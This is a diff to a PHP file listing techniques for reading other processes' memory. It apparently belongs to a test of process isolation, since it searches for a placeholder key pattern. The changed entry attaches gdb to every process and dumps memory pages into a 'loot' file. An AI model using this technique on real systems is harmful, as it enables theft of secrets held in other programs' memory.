@@ -13,7 +13,8 @@ $ways = [
             if (basename($process) != getmypid()) print_r(scan(basename($process), '/k3y-[0-9a-f]{32}/'));
         }
         PHP,
-    // A debugger has the process itself write the memory that nobody else can read.
+    // A debugger has the process itself write the memory that nobody else can read; and reads it too, since gdb cannot call functions on every
+    // machine (its XSAVE area must have the size of the processor's).
     'gdb' => <<<'PHP'
         foreach (glob('/proc/[0-9]*/maps') as $maps) {
             [, , $pid] = explode('/', $maps);
@@ -22,8 +23,8 @@ $ways = [
             if (is_file($loot)) continue;
             touch($loot);
             chmod($loot, 0666);
-            shell_exec("timeout 20 gdb -p $pid -batch -ex 'set \$fd = (int) open(\"$loot\", 1)' -ex 'print (long) write(\$fd, 0x$map[1], 4096)' 2>&1");
-            echo file_get_contents($loot);
+            shell_exec("timeout 20 gdb -p $pid -batch -ex 'set \$fd = (int) open(\"$loot\", 1)' -ex 'print (long) write(\$fd, 0x$map[1], 4096)' -ex 'dump binary memory $loot.read 0x$map[1] 0x$map[1]+4096' 2>&1");
+            echo file_get_contents($loot), @file_get_contents("$loot.read");
         }
         PHP,
 ];
